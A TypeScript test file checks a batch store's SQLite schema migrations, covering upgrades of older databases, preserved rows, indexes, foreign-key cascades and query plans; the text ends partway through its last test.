import { join } from 'node:path';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { migrate, migrations } from '../../src/store/sqlite/migrations.js';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { tempDir } from '../support/cli.js';
import { snap } from './snapshot.js';

function tables(db: Database.Database): string[] {
  return (db.prepare("SELECT name FROM sqlite_master WHERE type IN ('table','view') ORDER BY name").pluck().all() as string[]).filter(
    (n) => !n.startsWith('sqlite_'),
  );
}

function columns(db: Database.Database, table: string): string[] {
  return (db.prepare(`SELECT name FROM pragma_table_info('${table}')`).pluck().all() as string[]);
}

/** Every migration before the one named `prefix…`. */
const before = (prefix: string) => migrations.slice(0, migrations.findIndex((m) => m.name.startsWith(prefix)));

/** Every migration before 006 (workers and leases). */
const before006 = migrations.slice(
  0,
  migrations.findIndex((m) => m.name.startsWith('006_')),
);

describe('migrations', () => {
  it('builds the whole schema from a blank database', () => {
    const db = new Database(':memory:');
    expect(migrate(db)).toEqual(migrations.map((m) => m.name));
    expect(tables(db)).toEqual(
      expect.arrayContaining([
        'batches',
        'items',
        'runs',
        'decisions',
        'files',
        'file_copies',
        'threads',
        'workers',
        'model_runs',
        'item_summary',
        'batch_counts',
        'decision_log',
        'file_list',
      ]),
    );
    expect(columns(db, 'items')).toEqual(expect.arrayContaining(['owner', 'lease_until', 'attempt']));
    expect(columns(db, 'batches')).toEqual(expect.arrayContaining(['cancelled_at', 'cap_limit']));
    expect(columns(db, 'files')).toContain('host');
    // Who decided and their note, in columns of their own (migration 016).
    expect(columns(db, 'decision_log')).toEqual(['batch', 'item_id', 'tool', 'answer', 'by', 'person', 'note', 'cost', 'reason', 'decided_at']);
  });

  it('a blank file opened through the adapter is migrated whole', async () => {
    const path = join(tempDir(), 'blank.db');
    const store = SqliteStore.open(path);
    expect(store.db.prepare('SELECT name FROM _migrations ORDER BY name').pluck().all()).toEqual(migrations.map((m) => m.name));
    expect(await store.listBatches()).toEqual([]);
    await store.close();
  });

  it('upgrades a database made by the schema before 006 and keeps its rows', async () => {
    expect(before006.length).toBeGreaterThan(0);
    const path = join(tempDir(), 'old.db');
    const db = new Database(path);
    migrate(db, before006);
    expect(columns(db, 'items')).not.toContain('owner');
    db.prepare(
      "INSERT INTO batches (id, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 2, 'now', 'now')",
    ).run();
    db.prepare(
      "INSERT INTO items (batch_id, id, seq, line, question, state, updated_at) VALUES ('b1', 'a', 0, 2, 'first?', 'completed', 'now'), ('b1', 'b', 1, 3, 'second?', 'queued', 'now')",
    ).run();
    expect(migrate(db)).toEqual(migrations.slice(before006.length).map((m) => m.name));
    expect(db.prepare('SELECT name FROM batches').pluck().all()).toEqual(['old']);
    db.close();

    // The adapter reads the old rows with the new columns' defaults.
    const store = SqliteStore.open(path);
    expect(await store.findBatch('old')).toMatchObject({ id: 'b1', totalItems: 2, cancelledAt: null });
    expect(await store.getItem('b1', 'a')).toMatchObject({ state: 'completed', question: 'first?', owner: null, leaseUntil: null, attempt: 0 });
    expect(await store.itemCounts('b1')).toMatchObject({ completed: 1, queued: 1, cancelled: 0 });
    // The old queued item can be claimed under a lease.
    const claim = await store.claimItems('b1', { workerId: 'w1', leaseMs: 60_000, max: 5, cap: 5, afterSeq: -1 });
    expect(claim.items.map((i) => [i.id, i.state, i.owner])).toEqual([['b', 'submitting', 'w1']]);
    await store.close();
  });

  it('upgrades a database made before 008 (error codes): old failures keep their message, with no code', async () => {
    const before008 = migrations.slice(0, migrations.findIndex((m) => m.name.startsWith('008_')));
    const path = join(tempDir(), 'before-008.db');
    const db = new Database(path);
    migrate(db, before008);
    expect(columns(db, 'items')).not.toContain('error_code');
    db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 1, 'now', 'now')").run();
    db.prepare("INSERT INTO items (batch_id, id, seq, line, question, state, error, updated_at) VALUES ('b1', 'a', 0, 2, 'q?', 'failed', 'run r1 ended with status failed', 'now')").run();
    db.prepare("INSERT INTO runs (id, batch_id, item_id, step, idempotency_key, status, created_at) VALUES ('r1', 'b1', 'a', 0, 'k', 'failed', 'now')").run();
    expect(migrate(db)).toEqual(migrations.slice(before008.length).map((m) => m.name));
    expect(columns(db, 'items')).toContain('error_code');
    expect(columns(db, 'runs')).toEqual(expect.arrayContaining(['error_code', 'error']));
    db.close();
    const store = SqliteStore.open(path);
    expect(await store.getItem('b1', 'a')).toMatchObject({ error: 'run r1 ended with status failed', errorCode: null });
    expect(await store.getRun('r1')).toMatchObject({ error: null, errorCode: null });
    await store.close();
  });

  it('021 adds decisions.over_budget: decisions recorded before it read as not over the budget', async () => {
    const path = join(tempDir(), 'before-021.db');
    const db = new Database(path);
    migrate(db, before('021_'));
    expect(columns(db, 'decisions')).not.toContain('over_budget');
    db.pragma('foreign_keys = OFF');
    db.prepare("INSERT INTO batches (id, num, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 7, 'old', '/q.csv', 'abc', 1, 'now', 'now')").run();
    db.prepare("INSERT INTO decisions (batch_num, item_id, run_id, tool, input, answer, by, person, cost, decided_at) VALUES (7, 'a', 'r1', 'confirm_scope', '{}', '{}', 'person', 'ann', 300, 'now')").run();
    expect(migrate(db)).toEqual(migrations.slice(before('021_').length).map((m) => m.name));
    expect(db.prepare('SELECT over_budget FROM decisions').pluck().all()).toEqual([0]);
    db.close();
    const store = SqliteStore.open(path);
    expect((await store.decisionsForItem('b1', 'a')).map((d) => [d.person, d.cost, d.overBudget])).toEqual([['ann', 300, false]]);
    await store.close();
  });

  it("015 adds the worker's process start identity; workers registered before it read with none", async () => {
    const before015 = migrations.slice(0, migrations.findIndex((m) => m.name.startsWith('015_')));
    const path = join(tempDir(), 'before-015.db');
    const db = new Database(path);
    migrate(db, before015);
    expect(columns(db, 'workers')).not.toContain('pid_start');
    db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 0, 'now', 'now')").run();
    db.prepare("INSERT INTO workers (id, batch_id, host, pid, started_at, heartbeat_at) VALUES ('w1', 'b1', 'h', 7, 'now', 1000)").run();
    expect(migrate(db)).toEqual(migrations.slice(before015.length).map((m) => m.name));
    expect(columns(db, 'workers')).toContain('pid_start');
    db.close();
    const store = SqliteStore.open(path);
    expect(await store.liveWorkers('b1', 60_000, 1000)).toEqual([expect.objectContaining({ id: 'w1', pid: 7, pidStart: null })]);
    await store.close();
  });

  it('012 fills the counts by state from the items a database already has, and its triggers keep them exact', async () => {
    const before012 = migrations.slice(0, migrations.findIndex((m) => m.name.startsWith('012_')));
    const path = join(tempDir(), 'before-012.db');
    const db = new Database(path);
    migrate(db, before012);
    db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 5, 'now', 'now'), ('b2', 'other', '/r.csv', 'abc', 1, 'now', 'now')").run();
    db.prepare(
      `INSERT INTO items (batch_id, id, seq, line, question, state, updated_at) VALUES
         ('b1', 'a', 0, 2, 'q?', 'completed', 'now'), ('b1', 'b', 1, 3, 'q?', 'completed', 'now'), ('b1', 'c', 2, 4, 'q?', 'held', 'now'),
         ('b1', 'd', 3, 5, 'q?', 'queued', 'now'), ('b1', 'e', 4, 6, 'q?', 'failed', 'now'), ('b2', 'a', 0, 2, 'q?', 'queued', 'now')`,
    ).run();
    // Up to 019 (the counts by batch_id still); the store's open below applies 020 over these rows.
    const upTo019 = before('020_');
    expect(migrate(db, upTo019)).toEqual(upTo019.slice(before012.length).map((m) => m.name));
    expect(db.prepare("SELECT state, n FROM item_counts WHERE batch_id = 'b1' ORDER BY state").all()).toEqual([
      { state: 'completed', n: 2 },
      { state: 'failed', n: 1 },
      { state: 'held', n: 1 },
      { state: 'queued', n: 1 },
    ]);
    // Rows changed, added and deleted behind the store's back are counted too.
    db.prepare("UPDATE items SET state = 'queued' WHERE batch_id = 'b1' AND state IN ('failed', 'completed')").run();
    db.prepare("INSERT INTO items (batch_id, batch_num, id, seq, line, question, state, updated_at) VALUES ('b1', (SELECT num FROM batches WHERE id = 'b1'), 'f', 5, 7, 'q?', 'running', 'now')").run();
    db.prepare("DELETE FROM items WHERE batch_id = 'b1' AND id = 'c'").run();
    db.close();
    const store = SqliteStore.open(path);
    const fresh = (id: string) =>
      store.db.prepare('SELECT state, count(*) AS n FROM items WHERE batch_num = (SELECT num FROM batches WHERE id = ?) GROUP BY state').all(id) as { state: string; n: number }[];
    for (const id of ['b1', 'b2']) {
      const counts = await store.itemCounts(id);
      expect(Object.fromEntries(Object.entries(counts).filter(([, n]) => n > 0))).toEqual(Object.fromEntries(fresh(id).map((r) => [r.state, r.n])));
    }
    expect(await store.itemCounts('b1')).toMatchObject({ queued: 4, running: 1, held: 0, completed: 0 });
    await store.close();
  });

  it('a file from before 012 opened read-only (not migrated) still counts its items', async () => {
    const path = join(tempDir(), 'readonly-011.db');
    const db = new Database(path);
    migrate(db, migrations.slice(0, migrations.findIndex((m) => m.name.startsWith('012_'))));
    db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 2, 'now', 'now')").run();
    db.prepare("INSERT INTO items (batch_id, id, seq, line, question, state, updated_at) VALUES ('b1', 'a', 0, 2, 'q?', 'completed', 'now'), ('b1', 'b', 1, 3, 'q?', 'queued', 'now')").run();
    db.close();
    const store = SqliteStore.open(path, { readonly: true });
    expect(await store.itemCounts('b1')).toMatchObject({ completed: 1, queued: 1 });
    await store.close();
  });

  it('013 drops the index on the owner alone: the reads by owner walk items_active', () => {
    const db = new Database(':memory:');
    migrate(db, migrations.slice(0, migrations.findIndex((m) => m.name.startsWith('013_')) + 1));
    const indexes = db.prepare("SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = 'items'").pluck().all();
    expect(indexes).not.toContain('items_owner');
    expect(indexes).toContain('items_active');
    const plan = (sql: string): string =>
      (db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all('w1') as { detail: string }[]).map((r) => r.detail).join(' | ');
    // The heartbeat's and the retirement's statements as they were until 019: a search, not a scan.
    const ownedBy = "batch_id IN (SELECT id FROM batches) AND state IN ('submitting', 'running', 'waiting') AND owner = ?";
    expect(plan(`UPDATE items INDEXED BY items_active SET lease_until = 1 WHERE ${ownedBy}`)).toMatch(/SEARCH items USING COVERING INDEX items_active \(batch_id=\? AND state=\? AND owner=\?\)/);
  });

  it('019 moves the in-flight state to flights: items_active gone, a worker\'s flights found by a seek of flights_for_leases', () => {
    const db = new Database(':memory:');
    migrate(db, before('031_'));
    const indexes = db.prepare("SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name IN ('items', 'flights')").pluck().all();
    expect(indexes).not.toContain('items_active');
    expect(indexes).toContain('flights_for_leases');
    // The items indexes are named for the query that reads them (as in the PostgreSQL adapter).
    expect([...indexes].filter((n) => String(n).startsWith('items_')).sort()).toEqual([
      'items_for_claim', 'items_for_rate', 'items_for_state_pages', 'items_for_thread_claim', 'items_for_web_sort',
    ]);
    expect(columns(db, 'items')[0]).toBe('key');
    const plan = (sql: string): string =>
      (db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all({ w: 'w1' }) as { detail: string }[]).map((r) => r.detail).join(' | ');
    expect(plan(`UPDATE flights INDEXED BY flights_for_leases SET lease_until = 1 WHERE batch_num IN (SELECT num FROM batches) AND owner = @w`)).toMatch(
      /SEARCH flights USING (COVERING )?INDEX flights_for_leases \(batch_num=\? AND owner=\?\)/,
    );
  });

  it('019 keys the readers\' items indexes by the batch\'s integer key: filled from batches.num, and the claim and the web sort seek it', () => {
    const before019 = migrations.slice(0, migrations.findIndex((m) => m.name.startsWith('019_')));
    const db = new Database(':memory:');
    migrate(db, before019);
    db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 'one', '/q.csv', 'abc', 2, 'now', 'now'), ('b2', 'two', '/r.csv', 'abc', 1, 'now', 'now')").run();
    db.prepare(
      `INSERT INTO items (batch_id, id, seq, line, question, state, updated_at) VALUES
         ('b1', 'a', 0, 2, 'q?', 'completed', 'now'), ('b1', 'b', 1, 3, 'q?', 'queued', 'now'), ('b2', 'a', 0, 2, 'q?', 'queued', 'now')`,
    ).run();
    migrate(db, before('020_'));
    expect(db.prepare('SELECT i.batch_id, i.id, i.batch_num = b.num AS same FROM items i JOIN batches b ON b.id = i.batch_id ORDER BY i.key').all()).toEqual([
      { batch_id: 'b1', id: 'a', same: 1 },
      { batch_id: 'b1', id: 'b', same: 1 },
      { batch_id: 'b2', id: 'a', same: 1 },
    ]);
    const defs = Object.fromEntries(
      (db.prepare("SELECT name, sql FROM sqlite_master WHERE type = 'index' AND name LIKE 'items_for_%'").all() as { name: string; sql: string }[]).map((r) => [r.name, r.sql]),
    );
    expect(Object.keys(defs).sort()).toEqual(['items_for_claim', 'items_for_rate', 'items_for_state_pages', 'items_for_thread_claim', 'items_for_web_sort']);
    for (const sql of Object.values(defs)) expect(sql).toMatch(/ON items\(batch_num, /);
    const plan = (sql: string, ...args: unknown[]): string =>
      (db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...args) as { detail: string }[]).map((r) => r.detail).join(' | ');
    // The claim's statement (claims.ts) and the web view's sort by latest change (item-pages.ts), as the adapter writes them.
    expect(plan("SELECT * FROM items INDEXED BY items_for_claim WHERE batch_num = ? AND seq > ? AND state = 'queued' LIMIT 8", 1, -1)).toMatch(
      /SEARCH items USING INDEX items_for_claim \(batch_num=\? AND seq>\?\)/,
    );
    expect(
      plan(
        "SELECT i.id FROM items i INDEXED BY items_for_web_sort LEFT JOIN flights f ON f.item_key = i.key WHERE i.batch_num = (SELECT num FROM batches WHERE id = ?) AND i.state <> 'queued' ORDER BY i.updated_at DESC, i.seq DESC LIMIT 51",
        'b1',
      ),
    ).toMatch(/SEARCH i USING INDEX items_for_web_sort \(batch_num=\?\)/);
  });

  it("the views show an item in flight as readers see it (its flight's state), not its row, which a claim leaves queued (030)", async () => {
    const store = SqliteStore.open(':memory:');
    await store.loadModelBatch(
      { id: 'b1', name: 'm', kind: 'models', sourcePath: '/x', sourceSha256: 'x', baseUrl: null, settings: {} as never, policy: null },
      { modelId: 'mod', mode: null, description: {} },
      [{ id: 'a', line: 2, inputs: { x: 1 }, meta: {} }],
    );
    await store.claimItems('b1', { workerId: 'w', leaseMs: 1000, max: 1, cap: 1, afterSeq: -1 });
    expect(store.db.prepare("SELECT state FROM items WHERE id = 'a'").pluck().get()).toBe('queued');
    expect(store.db.prepare('SELECT item_id, state FROM model_run_list').all()).toEqual([{ item_id: 'a', state: 'submitting' }]);
    expect(store.db.prepare('SELECT id, state FROM item_summary').all()).toEqual([{ id: 'a', state: 'submitting' }]);
    expect(store.db.prepare('SELECT state, items FROM batch_counts').all()).toEqual([{ state: 'submitting', items: 1 }]);
    await store.close();
  });

  it('020 keys every table by batch_num: no batch_id column left, the indexes named for their readers, and the hot readers seek them', () => {
    const db = new Database(':memory:');
    migrate(db, before('031_'));
    const withColumn = (col: string): string[] =>
      db.prepare("SELECT m.name FROM sqlite_master m JOIN pragma_table_info(m.name) p WHERE m.type IN ('table', 'view') AND p.name = ? ORDER BY m.name").pluck().all(col) as string[];
    // batches keeps its `id` (the public id); no table or view names a batch by `batch_id` any more.
    expect(withColumn('batch_id')).toEqual([]);
    expect(withColumn('batch_num')).toEqual([
      'batch_spend', 'decisions', 'file_copies', 'files', 'flights', 'item_counts', 'items', 'model_batches', 'model_runs', 'notify_commands', 'outbox', 'runs', 'threads', 'verdicts', 'workers',
    ]);
    const fks = db
      .prepare("SELECT m.name AS child, f.\"table\" AS parent, group_concat(f.\"from\") AS cols, group_concat(f.\"to\") AS refs, f.on_delete FROM sqlite_master m JOIN pragma_foreign_key_list(m.name) f WHERE m.type = 'table' GROUP BY m.name, f.id ORDER BY m.name, f.\"table\"")
      .all();
    expect(fks).toEqual(
      expect.arrayContaining([
        { child: 'items', parent: 'batches', cols: 'batch_num', refs: 'num', on_delete: 'CASCADE' },
        { child: 'runs', parent: 'items', cols: 'batch_num,item_id', refs: 'batch_num,id', on_delete: 'CASCADE' },
        { child: 'decisions', parent: 'items', cols: 'batch_num,item_id', refs: 'batch_num,id', on_delete: 'CASCADE' },
        { child: 'files', parent: 'items', cols: 'batch_num,item_id', refs: 'batch_num,id', on_delete: 'CASCADE' },
        { child: 'file_copies', parent: 'files', cols: 'batch_num,file_id', refs: 'batch_num,id', on_delete: 'CASCADE' },
        { child: 'model_runs', parent: 'items', cols: 'batch_num,item_id', refs: 'batch_num,id', on_delete: 'CASCADE' },
        ...['runs', 'decisions', 'files', 'file_copies', 'model_runs', 'threads', 'model_batches', 'workers', 'item_counts', 'outbox', 'batch_spend'].map((child) => ({
          child, parent: 'batches', cols: 'batch_num', refs: 'num', on_delete: 'CASCADE',
        })),
      ]),
    );
    const indexes = db.prepare("SELECT name FROM sqlite_master WHERE type = 'index' AND sql IS NOT NULL ORDER BY name").pluck().all();
    expect(indexes).toEqual([
      'batches_num', 'decisions_for_item', 'decisions_for_run', 'files_for_status', 'flights_for_leases', 'forecasts_by_file', 'forecasts_for_batch', 'items_for_claim', 'items_for_rate',
      'items_for_state_pages', 'items_for_thread_claim', 'items_for_web_sort', 'outbox_due', 'outbox_for_key', 'outbox_for_kind', 'runs_for_item', 'verdicts_for_totals',
      'web_login_codes_for_purge', 'web_sessions_for_purge', 'workers_for_live',
    ]);
    const plan = (sql: string, ...args: unknown[]): string =>
      (db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...args) as { detail: string }[]).map((r) => r.detail).join(' | ');
    const num = '(SELECT num FROM batches WHERE id = ?)';
    // The adapter's statements (runs.ts chain, decisions.ts forRun, files.ts forBatch, outbox.ts, counts.ts, decisions.ts approvedCost, claims.ts live, reads.ts ITEM_KEY).
    expect(plan(`SELECT ? AS batch_id, * FROM runs WHERE batch_num = ${num} AND item_id = ? ORDER BY rowid`, 'b', 'b', 'a')).toMatch(/SEARCH runs USING INDEX runs_for_item \(batch_num=\? AND item_id=\?\)/);
    expect(plan(`SELECT ? AS batch_id, * FROM decisions WHERE batch_num = ${num} AND run_id = ?`, 'b', 'b', 'r')).toMatch(/SEARCH decisions USING INDEX decisions_for_run \(batch_num=\? AND run_id=\?\)/);
    expect(plan(`SELECT ? AS batch_id, * FROM files WHERE batch_num = ${num} AND status IN (?, ?) ORDER BY rowid`, 'b', 'b', 'pending', 'failed')).toMatch(/SEARCH files USING INDEX files_for_status \(batch_num=\? AND status=\?\)/);
    expect(plan(`SELECT id FROM outbox WHERE batch_num = ${num} AND key = ?`, 'b', 'k')).toMatch(/SEARCH outbox USING COVERING INDEX outbox_for_key \(batch_num=\? AND key=\?\)/);
    expect(plan(`SELECT count(*) FROM outbox WHERE batch_num = ${num} AND status = 'pending'`, 'b')).toMatch(/SEARCH outbox USING (COVERING )?INDEX outbox_for_kind \(batch_num=\?\)/);
    expect(plan(`SELECT state, n FROM item_counts WHERE batch_num = ${num}`, 'b')).toMatch(/SEARCH item_counts USING PRIMARY KEY \(batch_num=\?\)/);
    expect(plan(`SELECT coalesce((SELECT approved FROM batch_spend WHERE batch_num = ${num}), 0)`, 'b')).toMatch(/SEARCH batch_spend USING INTEGER PRIMARY KEY \(rowid=\?\)/);
    expect(plan(`SELECT * FROM workers w WHERE w.batch_num = ${num} AND w.stopped_at IS NULL AND w.heartbeat_at >= ?`, 'b', 0)).toMatch(/SEARCH w USING INDEX workers_for_live \(batch_num=\? AND heartbeat_at>\?\)/);
    expect(plan(`SELECT key FROM items WHERE batch_num = ${num} AND id = ?`, 'b', 'a')).toMatch(/SEARCH items USING COVERING INDEX sqlite_autoindex_items_1 \(batch_num=\? AND id=\?\)/);
    // reads.ts recentFinishes: the latest ends in the index's order, no sort of the batch's ends.
    const latest = plan(
      `SELECT id, finished_at FROM items INDEXED BY items_for_rate WHERE batch_num = ${num} AND finished_at IS NOT NULL AND state IN ('completed', 'failed', 'error') ORDER BY finished_at DESC, seq DESC LIMIT 100`,
      'b',
    );
    expect(latest).toMatch(/SEARCH items USING INDEX items_for_rate \(batch_num=\? AND finished_at>\?\)/);
    expect(latest).not.toMatch(/TEMP B-TREE/);
  });

  it('020 on a 019 database: every row kept with its batch\'s num (rowids, ids and the outbox\'s high mark too), the approved cost summed, a batch deleted whole', async () => {
    const path = join(tempDir(), 'before-020.db');
    const db = new Database(path);
    db.pragma('foreign_keys = ON');
    migrate(db, before('020_'));
    // nums unlike the rowids: the copy must take each row's num from its batch, by id.
    db.exec(`
      INSERT INTO batches (id, name, kind, source_path, source_sha256, total_items, settings, created_at, updated_at, num) VALUES
        ('b1', 'one', 'runs', '/q.csv', 'abc', 3, '{"notify":{"urls":["http://x"]}}', 'now', 'now', 7), ('b2', 'two', 'models', '/r.csv', 'abc', 1, '{}', 'now', 'now', 3);
      INSERT INTO items (batch_id, batch_num, id, seq, line, question, state, run_id, updated_at) VALUES
        ('b1', 7, 'a', 0, 2, 'q?', 'completed', 'r2', 'now'), ('b1', 7, 'b', 1, 3, 'q?', 'flight', NULL, 'now'), ('b1', 7, 'c', 2, 4, 'q?', 'held', 'r3', 'now'),
        ('b2', 3, 'a', 0, 2, 'q?', 'queued', NULL, 'now');
      INSERT INTO flights (item_key, batch_num, state, step, pending_key, run_id, owner, lease_until, fence, updated_at)
        SELECT key, 7, 'running', 1, 'k-b', 'r4', 'w1', 5000, 3, 'now' FROM items WHERE batch_id = 'b1' AND id = 'b';
      INSERT INTO threads (batch_id, thread_key, thread_id) VALUES ('b1', 't', 'th1');
      INSERT INTO runs (id, batch_id, item_id, step, idempotency_key, status, created_at) VALUES
        ('r2', 'b1', 'a', 0, 'k2', 'completed', 'now'), ('r1', 'b1', 'a', 1, 'k1', 'completed', 'now'), ('r3', 'b1', 'c', 0, 'k3', 'requires_action', 'now'), ('r4', 'b1', 'b', 0, 'k4', 'running', 'now');
      INSERT INTO decisions (id, batch_id, item_id, run_id, tool, input, answer, by, cost, decided_at) VALUES
        (4, 'b1', 'a', 'r2', 't', '{}', '{}', 'policy', 0.5, 'now'), (9, 'b1', 'c', 'r3', 't', '{}', '{}', 'person', 1.25, 'now');
      INSERT INTO files (batch_id, id, item_id, run_id, url, first_seen_at, expires_at, status) VALUES
        ('b1', 'f2', 'a', 'r2', 'u', 'now', 'later', 'downloaded'), ('b1', 'f1', 'a', 'r2', 'u', 'now', 'later', 'pending');
      INSERT INTO file_copies (batch_id, file_id, host, path, bytes, sha256, copied_at) VALUES ('b1', 'f2', 'h2', '/p', 1, 's', 'now');
      INSERT INTO model_batches (batch_id, model_id, description) VALUES ('b2', 'm', '{}');
      INSERT INTO model_runs (batch_id, item_id, model_id, inputs) VALUES ('b2', 'a', 'm', '{}');
      INSERT INTO workers (id, batch_id, host, pid, started_at, heartbeat_at) VALUES ('w1', 'b1', 'h', 7, 'now', 1000);
      INSERT INTO outbox (batch_id, key, type, status, created_at) VALUES ('b1', 'e1', 'x', 'pending', 1), ('b1', 'e2', 'x', 'pending', 2), ('b2', 'e3', 'x', 'sent', 3);
      DELETE FROM outbox WHERE key = 'e3';
    `);
    const tablesOf = ['items', 'threads', 'runs', 'decisions', 'files', 'file_copies', 'model_batches', 'model_runs', 'workers', 'item_counts', 'outbox'];
    const byBatch = (sqlFor: (t: string) => string): Record<string, unknown> => Object.fromEntries(tablesOf.map((t) => [t, db.prepare(sqlFor(t)).all()]));
    const rowsBefore = byBatch((t) => `SELECT batch_id AS batch, count(*) AS n FROM ${t} GROUP BY batch_id ORDER BY batch_id`);
    const countsBefore = db.prepare('SELECT batch_id AS batch, state, n FROM item_counts ORDER BY batch_id, state').all();
    const order = (): unknown => ({
      runs: db.prepare('SELECT id FROM runs ORDER BY rowid').pluck().all(),
      files: db.prepare('SELECT id FROM files ORDER BY rowid').pluck().all(),
      decisions: db.prepare('SELECT id FROM decisions ORDER BY id').pluck().all(),
      outbox: db.prepare('SELECT id, key FROM outbox ORDER BY id').all(),
      items: db.prepare('SELECT key, id FROM items ORDER BY key').all(),
    });
    const orderBefore = order();
    // The last outbox row given an id is gone: only the high mark remembers it.
    const high = db.prepare("SELECT seq FROM sqlite_sequence WHERE name = 'outbox'").pluck().get() as number;
    expect(high).toBeGreaterThan(db.prepare('SELECT max(id) FROM outbox').pluck().get() as number);
    expect(rowsBefore.items).toEqual([{ batch: 'b1', n: 3 }, { batch: 'b2', n: 1 }]);

    // Up to 030, which moves the mark's counts (its own test below).
    expect(migrate(db, before('030_'))).toEqual(migrations.slice(migrations.findIndex((m) => m.name === '020_batch_num_keys'), migrations.findIndex((m) => m.name.startsWith('030_'))).map((m) => m.name));
    expect(db.pragma('foreign_keys', { simple: true })).toBe(1);
    expect(byBatch((t) => `SELECT b.id AS batch, count(*) AS n FROM ${t} t JOIN batches b ON b.num = t.batch_num GROUP BY b.id ORDER BY b.id`)).toEqual(rowsBefore);
    expect(db.prepare('SELECT b.id AS batch, c.state, c.n FROM item_counts c JOIN batches b ON b.num = c.batch_num ORDER BY b.id, c.state').all()).toEqual(countsBefore);
    expect(order()).toEqual(orderBefore);
    expect(db.pragma('foreign_key_check')).toEqual([]);
    expect(db.prepare('SELECT batch_num, approved FROM batch_spend ORDER BY batch_num').all()).toEqual([{ batch_num: 7, approved: 1.75 }]);
    // An outbox id once given is never given again (AUTOINCREMENT's high mark moved with the table).
    db.prepare("INSERT INTO outbox (batch_num, key, type, status, created_at) VALUES (7, 'e4', 'x', 'pending', 4)").run();
    expect(db.prepare("SELECT id FROM outbox WHERE key = 'e4'").pluck().get()).toBe(high + 1);
    // The views read through batch_num.
    expect(db.prepare('SELECT batch, id, state FROM item_summary ORDER BY batch, id').all()).toEqual([
      { batch: 'one', id: 'a', state: 'completed' }, { batch: 'one', id: 'b', state: 'running' }, { batch: 'one', id: 'c', state: 'held' }, { batch: 'two', id: 'a', state: 'queued' },
    ]);
    expect(db.prepare('SELECT batch, cost FROM decision_log ORDER BY cost').all()).toEqual([{ batch: 'one', cost: 0.5 }, { batch: 'one', cost: 1.25 }]);
    // batch_spend follows the decisions: a new one adds its cost, a deleted one takes it off; 100% of a 2.0 budget is told once.
    db.prepare(`UPDATE batches SET policy = '{"confirm_scope":{"batch_budget":2}}' WHERE id = 'b1'`).run();
    db.prepare("INSERT INTO decisions (batch_num, item_id, run_id, tool, input, answer, by, cost, decided_at) VALUES (7, 'b', 'r4', 't', '{}', '{}', 'policy', 0.5, 'now')").run();
    expect(db.prepare('SELECT approved FROM batch_spend WHERE batch_num = 7').pluck().get()).toBe(2.25);
    expect(db.prepare("SELECT key FROM outbox WHERE type = 'budget.reached' ORDER BY key").pluck().all()).toEqual(['budget:100', 'budget:80']);
    db.prepare('DELETE FROM decisions WHERE id = 4').run();
    expect(db.prepare('SELECT approved FROM batch_spend WHERE batch_num = 7').pluck().get()).toBe(1.75);
    db.close();

    // Through the adapter: the item in flight as it was, the approved cost from batch_spend.
    const store = SqliteStore.open(path);
    expect(await store.getItem('b1', 'b')).toMatchObject({ batchId: 'b1', state: 'running', step: 1, pendingKey: 'k-b', runId: 'r4', owner: 'w1', leaseUntil: 5000, fence: 3 });
    expect(await store.approvedCost('b1')).toBe(1.75);
    expect(await store.approvedCost('b2')).toBe(0);
    expect((await store.runChain('b1', 'a')).map((r) => [r.id, r.batchId])).toEqual([['r2', 'b1'], ['r1', 'b1']]);
    // Deleting a batch deletes everything of it (foreign keys on, as the adapter opens the file), the other batch untouched.
    store.db.prepare("DELETE FROM batches WHERE id = 'b1'").run();
    for (const t of [...tablesOf, 'flights', 'batch_spend']) expect([t, store.db.prepare(`SELECT count(*) FROM ${t} WHERE batch_num = 7`).pluck().get()]).toEqual([t, 0]);
    expect(store.db.prepare('SELECT count(*) FROM items WHERE batch_num = 3').pluck().get()).toBe(1);
    expect(await store.modelRun('b2', 'a')).toMatchObject({ batchId: 'b2', itemId: 'a', modelId: 'm' });
    expect(await store.modelBatch('b2')).toMatchObject({ batchId: 'b2', modelId: 'm' });
    await store.close();
  });

  it('030 on a database mid-batch from before it: the items in flight keep their rows as queued, their start in the flight, and the batch goes on (counts, cap, claims, ends)', async () => {
    const path = join(tempDir(), 'before-030.db');
    const db = new Database(path);
    db.pragma('foreign_keys = ON');
    migrate(db, before('030_'));
    // As the code before 030 left a batch: a claimed item's row took the mark ('flight', its start, its thread), its flight the rest.
    db.exec(`
      INSERT INTO batches (id, name, kind, source_path, source_sha256, total_items, settings, created_at, updated_at, num) VALUES
        ('b1', 'one', 'runs', '/q.csv', 'abc', 4, '{}', 'now', 'now', 7);
      INSERT INTO items (batch_num, id, seq, line, question, state, started_at, finished_at, thread_id, updated_at) VALUES
        (7, 'a', 0, 2, 'q?', 'completed', 't0', 't1', NULL, 'now'), (7, 'b', 1, 3, 'q?', 'flight', 't2', NULL, 'th-b', 'now'),
        (7, 'c', 2, 4, 'q?', 'queued', NULL, NULL, NULL, 'now'), (7, 'd', 3, 5, 'q?', 'flight', 't3', NULL, NULL, 'now');
      INSERT INTO flights (item_key, batch_num, state, step, pending_key, run_id, thread_id, owner, lease_until, fence, updated_at)
        SELECT key, 7, 'running', 0, 'k-' || id, 'r-' || id, thread_id, 'w-dead', 0, 3, 'now' FROM items WHERE state = 'flight';
    `);
    expect(db.prepare("SELECT state, n FROM item_counts WHERE batch_num = 7 ORDER BY state").all()).toEqual([
      { state: 'completed', n: 1 }, { state: 'flight', n: 2 }, { state: 'queued', n: 1 },
    ]);
    db.close();

    const store = SqliteStore.open(path);
